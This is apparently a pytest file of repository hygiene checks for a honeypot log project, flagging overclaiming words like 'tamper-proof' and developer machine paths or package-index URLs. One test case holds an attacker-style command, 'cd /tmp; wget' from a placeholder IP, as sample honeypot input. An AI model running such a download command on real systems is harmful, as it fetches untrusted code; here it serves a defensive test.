"""Words and paths that must not be in the repository."""

from __future__ import annotations

import ast
import re
from typing import Final

import pytest

from .source import CHECKOUT, names, strings, texts

# `immutable=1` is what SQLite calls an option of its own, and IMMUTABLE what PostgreSQL calls a
# function of nothing but its arguments.
CLAIMS: Final = re.compile(
    r"tamper[- ]?(proof|evident|resistant)|\bimmutab(le(?!=| PARALLEL SAFE)|ility)"
    r"|unforgeable|unhackable",
    re.IGNORECASE,
)
# Folders of the machine something was written on. A honeypot's logs do hold /root and /tmp, and
# Cowrie itself is installed in /home/cowrie.
MACHINE_PATHS: Final = re.compile(
    r"(?<![\w.-])(/work[/]\w|/root/\.pyenv|/Users/\w|/home/(?!cowrie\b)\w)"
)
REGISTRY_HOSTS: Final = re.compile(
    r"--(extra-)?index-url|--trusted-host|https?://[\w.:-]+/simple\b"
)


def test_no_string_claims_more_than_the_evidence_gives() -> None:
    """The words that no level of proof earns are in no string and no docstring (CT-06)."""
    found = [
        f"{name}:{line}"
        for name, text in texts("src").items()
        for line, string in strings(ast.parse(text))
        if CLAIMS.search(string)
    ]

    assert found == []


@pytest.mark.parametrize("suffix", [".sql", ".json", ".mako"])
def test_no_data_file_claims_more_than_the_evidence_gives(suffix: str) -> None:
    """Titles and notes of queries and schemas reach the reader too (CT-06)."""
    found = [name for name, text in texts("src", suffix=suffix).items() if CLAIMS.search(text)]

    assert found == []


@pytest.mark.parametrize(
    ("text", "is_claim"),
    [
        ("a tamper-proof log", True),
        ("Tamper-evident storage", True),
        ("an immutable record", True),
        ("file:x.db?mode=ro&immutable=1", False),
        ("LANGUAGE plpgsql IMMUTABLE PARALLEL SAFE", False),
        ("no accidental damage found", False),
    ],
)
def test_a_claim_is_found(text: str, is_claim: bool) -> None:  # noqa: FBT001 - a case, not a switch
    """The check knows the words, however they are written (CT-06)."""
    assert bool(CLAIMS.search(text)) is is_claim


def test_no_file_knows_the_machine_it_was_written_on() -> None:
    """No tracked file holds a path of somebody's machine or the address of a package index."""
    found = []
    for name in names():
        if name == "tests/tidy/test_words.py":
            continue
        text = (CHECKOUT / name).read_bytes().decode("utf-8", errors="replace")
        for pattern in (MACHINE_PATHS, REGISTRY_HOSTS):
            found += [f"{name}: {match.group()}" for match in pattern.finditer(text)]

    assert found == []


@pytest.mark.parametrize(
    ("text", "is_machine_path"),
    [
        ("cd /root/.pyenv && ls", True),
        ("/home/alice/src", True),
        ("/home/cowrie/cowrie/var/log", False),
        ("cd /tmp; wget http://198.51.100.7/x", False),
        ("docs/work/main", False),
    ],
)
def test_a_machine_path_is_found(text: str, is_machine_path: bool) -> None:  # noqa: FBT001 - a case, not a switch
    """The check tells a developer's folders from those that an attacker types."""
    assert bool(MACHINE_PATHS.search(text)) is is_machine_path
